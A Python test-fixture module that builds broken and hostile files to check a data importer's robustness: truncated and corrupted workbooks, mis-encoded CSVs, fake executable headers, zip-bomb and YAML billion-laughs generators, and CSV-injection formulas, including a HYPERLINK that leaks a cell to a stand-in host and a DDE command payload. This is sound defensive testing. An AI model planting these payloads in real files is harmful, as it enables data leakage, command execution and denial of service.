"""The bad-files corpus (issue 10): broken inputs for every importer, made in code.

Nothing binary is committed: every file is built here from a valid one (a workbook
openpyxl writes, a CSV the csv module writes, the world file of tests/world/data), then
broken the way files arrive broken at a bureau: cut off while uploading, saved in
another encoding, made by a program rather than Excel, renamed, or made to hurt (a zip
bomb, YAML aliases, formulas). The sizes are parameters: tests/reliability/test_bad_files.py
builds small ones for CI, benchmarks/bad_files_drill.py the long run (a zip bomb of
gigabytes, a million rows).

`table_counts` is what the drill compares before and after each file: the rows of every
table, so that "nothing was written" is checked everywhere, not only where it is expected.
"""

import codecs
import csv
import io
import random
import struct
import zipfile
from collections.abc import Iterable, Sequence
from pathlib import Path

import openpyxl

MEGABYTE = 1024 * 1024
SPREADSHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHARED_STRINGS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"

#: Cells that a spreadsheet runs as formulas when they are opened (OWASP "CSV injection").
FORMULAS = ('=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")', "=1+2", "+1+2", "-1+2", "@SUM(1,2)",
            "=cmd|' /C calc'!A0")

#: The first bytes of programs: a Linux ELF executable and a Windows PE (MZ) one.
ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
EXE_HEADER = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\xb8" + bytes(7) + b"\x40"


# --- valid files to break ---------------------------------------------------------------------


def csv_bytes(rows: Iterable[Sequence[object]], encoding: str = "utf-8") -> bytes:
    """Rows as CSV text in `encoding` ("utf-8-sig" adds the BOM Excel writes, "gbk" is Excel's 逗号分隔)."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(rows: Iterable[Sequence[object]], merges: Sequence[str] = ()) -> bytes:
    """Rows (None for a blank cell) in a workbook's first sheet, with merged ranges ("A1:C1")."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(list(row))
    for merge in merges:
        sheet.merge_cells(merge)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _members(workbook: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return [(info, archive.read(info.filename)) for info in archive.infolist()]


def xlsx_with_text(rows: Iterable[Sequence[object]], placeholder: str, text: str) -> bytes:
    """A workbook of `rows` in which the cell holding `placeholder` holds `text` instead, at
    any length: openpyxl itself cuts what it writes to Excel's 32,767 characters, other
    programs do not."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in _members(xlsx_bytes(rows)):
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(placeholder.encode(), text.encode())
            archive.writestr(info, data)
    return out.getvalue()


# --- broken containers ------------------------------------------------------------------------


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    """The first part of a file, as an upload or a copy cut off half-way leaves it."""
    return data[: max(1, int(len(data) * keep))]


def corrupted_member(workbook: bytes, member: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A workbook whose directory is intact but one part's compressed bytes are garbage
    (a bad disk sector, a transfer that flipped bits)."""
    data = bytearray(workbook)
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        info = archive.getinfo(member)
    name_length, extra_length = struct.unpack("<HH", data[info.header_offset + 26: info.header_offset + 30])
    start = info.header_offset + 30 + name_length + extra_length
    for offset in range(start + 2, start + min(info.compress_size, 64) - 2):
        data[offset] ^= 0x5A
    return bytes(data)


def zip_bomb_xlsx(unpacked_bytes: int, *, declared_bytes: int | None = None, chunk: int = MEGABYTE) -> bytes:
    """A workbook whose sheet XML unpacks to `unpacked_bytes` of blanks (valid XML), about a
    thousand times its stored size: written with zipfile in chunks, never whole in memory.

    With `declared_bytes`, the archive lies: its headers declare that size for the sheet,
    as a bomb made to pass a check of the declared sizes does.
    """
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in _members(xlsx_bytes([["企业名称", "数值"], ["南通甲公司", 1]])):
            if info.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(info, data)
                continue
            zip64 = unpacked_bytes >= 0xFFFFFFFF
            with archive.open(info.filename, "w", force_zip64=zip64) as stream:
                stream.write(f'<worksheet xmlns="{SPREADSHEET_NS}"><sheetData>'.encode())
                blanks = b" " * chunk
                left = unpacked_bytes
                while left > 0:
                    stream.write(blanks[: min(chunk, left)])
                    left -= chunk
                stream.write(b"</sheetData></worksheet>")
    data = out.getvalue()
    if declared_bytes is not None:
        data = _declare_size(data, "xl/worksheets/sheet1.xml", declared_bytes)
    return data


def _declare_size(data: bytes, member: str, size: int) -> bytes:
    """Rewrite the uncompressed size `member` declares, in its local header and in the directory."""
    patched = bytearray(data)
    encoded = member.encode()
    local = patched.find(b"PK\x03\x04")
    while local != -1:
        name_length = struct.unpack("<H", patched[local + 26: local + 28])[0]
        if patched[local + 30: local + 30 + name_length] == encoded:
            struct.pack_into("<I", patched, local + 22, size)
            break
        local = patched.find(b"PK\x03\x04", local + 4)
    central = patched.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack("<H", patched[central + 28: central + 30])[0]
        if patched[central + 46: central + 46 + name_length] == encoded:
            struct.pack_into("<I", patched, central + 24, size)
            break
        central = patched.find(b"PK\x01\x02", central + 4)
    return bytes(patched)


def many_strings_xlsx(strings: int, rows: Iterable[Sequence[object]] = (("企业名称",), ("南通甲公司",)),
                      seed: int = 10) -> bytes:
    """A workbook of `rows` whose shared-strings table also holds `strings` distinct short texts
    no cell uses: small as stored (they compress about five times, far from a zip bomb's
    ratio) but each one a Python object once read."""
    rng = random.Random(seed)
    letters = "abcdefghijklmnopqrstuvwxyz"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in _members(xlsx_bytes(rows)):
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="'
                                    + SHARED_STRINGS_TYPE.encode() + b'"/></Types>')
            archive.writestr(info, data)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as stream:
            stream.write(f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{SPREADSHEET_NS}">'.encode())
            for start in range(0, strings, 10_000):
                stream.write("".join(f"<si><t>{''.join(rng.choices(letters, k=6))}</t></si>"
                                     for _ in range(min(10_000, strings - start))).encode())
            stream.write(b"</sst>")
    return out.getvalue()


def program(kind: str = "elf", size: int = 4096) -> bytes:
    """The first bytes of a program ("elf" or "exe"), padded with the zeros and code bytes of one."""
    header = ELF_HEADER if kind == "elf" else EXE_HEADER
    rng = random.Random(size)
    return header + bytes(rng.choice((0, 0, 0, rng.randrange(256))) for _ in range(size - len(header)))


def html_table(rows: Iterable[Sequence[object]]) -> bytes:
    """An HTML table, as some systems export "Excel" files (saved as .xls)."""
    cells = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows)
    return ('<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
            f"<body><table>{cells}</table></body></html>").encode()


# --- text that is not what it says -----------------------------------------------------------


def utf16_without_bom(rows: Iterable[Sequence[object]]) -> bytes:
    return csv_bytes(rows, "utf-16-le")


def utf16_with_bom(rows: Iterable[Sequence[object]]) -> bytes:
    return codecs.BOM_UTF16_LE + csv_bytes(rows, "utf-16-le")


def invalid_bytes(rows: Iterable[Sequence[object]], at_row: int) -> bytes:
    """UTF-8 text with a byte neither UTF-8 nor GB18030 can read (0xFF) in row `at_row` (1-based)."""
    lines = csv_bytes(rows).split(b"\n")
    lines[at_row - 1] = lines[at_row - 1].replace(b",", b",\xff", 1)
    return b"\n".join(lines)


def cut_mid_character(rows: Iterable[Sequence[object]]) -> bytes:
    """UTF-8 text cut off inside its last Chinese character."""
    data = csv_bytes(rows).rstrip(b"\r\n")
    assert data[-1] >= 0x80, "the last cell must end in a Chinese character"
    return data[:-1]


def utf8_then_gbk(first: Iterable[Sequence[object]], then: Iterable[Sequence[object]]) -> bytes:
    """Two exports pasted into one file: the first rows in UTF-8, the rest in GBK."""
    return csv_bytes(first) + csv_bytes(then, "gbk")


def big_cell_text(megabytes: float = 10, seed: int = 7) -> str:
    """Text of `megabytes` that does not compress much (a zip bomb check must not be what refuses it)."""
    rng = random.Random(seed)
    words = ["南通", "高新区", "半导体", "设备", "有限公司", "abc", "123", "产值"]
    text, size = [], 0
    while size < megabytes * MEGABYTE:
        word = rng.choice(words)
        text.append(word)
        size += len(word.encode())
    return "".join(text)


# --- large tables ----------------------------------------------------------------------------


def write_rows(path: Path, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """A CSV file written row by row (never whole in memory); returns the data rows written."""
    count = 0
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(header)
        for row in rows:
            writer.writerow(row)
            count += 1
    return count


def months(count: int, last_year: int = 2023) -> list[str]:
    """`count` month codes ending with December of `last_year` (all in the past)."""
    first_year = last_year - (count + 11) // 12 + 1
    every = [f"{year}-{month:02d}" for year in range(first_year, last_year + 1) for month in range(1, 13)]
    return every[-count:]


# --- world files -----------------------------------------------------------------------------


def billion_laughs(levels: int = 9, width: int = 10, section: str = "organisations") -> str:
    """The YAML "billion laughs": each level an anchored list of `width` aliases of the level
    below, so that a few hundred bytes stand for width**levels items."""
    lines = ["kechuang: 1", f"laugh0: &laugh0 [{', '.join(['lol'] * width)}]"]
    for level in range(1, levels):
        lines.append(f"laugh{level}: &laugh{level} [{', '.join([f'*laugh{level - 1}'] * width)}]")
    lines.append(f"{section}: *laugh{levels - 1}")
    return "\n".join(lines) + "\n"


def organisations_world(count: int, bad_last: bool = True, declared: bool = False) -> str:
    """A world file of `count` enterprises; with `bad_last`, the last one's kind is misspelt; with
    `declared`, its head declares the count, as a dump's does (`entries`)."""
    lines = ["kechuang: 1", *([f"entries: {{organisations: {count}}}"] if declared else []), "organisations:"]
    for number in range(count):
        lines.append(f"  - {{key: drill-{number:07d}, kind: enterprise, name_zh: 演练企业{number}有限公司}}")
    if bad_last:
        lines[-1] = lines[-1].replace("kind: enterprise", "kind: enterprize")
    return "\n".join(lines) + "\n"


# --- what the drill compares ------------------------------------------------------------------


def table_counts() -> dict[str, int]:
    """The rows of every table of every installed model, by app_label.Model."""
    from django.apps import apps
    from django.db import connection

    tables = {model._meta.label: model._meta.db_table for model in apps.get_models(include_auto_created=True)
              if not model._meta.proxy and model._meta.managed}
    quote = connection.ops.quote_name
    # One statement for every table: a round trip each would cost more than the drill's files.
    selects = ", ".join(f"(SELECT COUNT(*) FROM {quote(table)})" for table in tables.values())
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {selects}")
        return dict(zip(tables, cursor.fetchone(), strict=True))


def changed(before: dict[str, int], after: dict[str, int]) -> dict[str, int]:
    """The tables whose row count changed, and by how much."""
    return {label: after.get(label, 0) - count for label, count in before.items() if after.get(label, 0) != count}
